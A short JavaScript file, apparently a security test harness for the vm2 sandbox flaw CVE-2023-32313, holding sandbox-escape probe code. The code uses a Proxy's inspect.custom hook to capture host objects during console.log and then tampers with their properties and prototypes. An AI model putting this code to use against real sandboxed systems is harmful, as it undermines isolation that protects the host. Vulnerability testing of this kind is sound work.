// CVE-2023-32313 (GHSA-p5gc-c584-jj6v), vm2: a proxy that answers to `nodejs.util.inspect.custom` is handed the host's `inspect`, and what
// is written to that function breaks `console.log` for all others.
const custom = Symbol.for("nodejs.util.inspect.custom");
const attacks = {
  "inspect, by a proxy": {
    ends: ["ok"],
    times: 20,
    run() {
      const got = [];
      const show = (...values) => (got.push(...values), "x");
      const proxy = new Proxy({}, { get: (_, name) => (name === custom ? show : undefined) });
      for (const object of [proxy, { [custom]: show }, Object.create(proxy)]) {
        console.log(object);
        console.log("%o", { object });
      }
      if (got.some((value) => value?.broken !== undefined)) return "the render before changed what this one is handed";
      for (const value of got) {
        try {
          value.broken = true;
          value.constructor.broken = true;
          Object.setPrototypeOf(value, null);
        } catch {}
      }
      console.log("still there");
      delete Function.broken;
      delete Object.broken;
      return got.length > 0 ? probe(...got) : "nothing was handed";
    },
  },
};
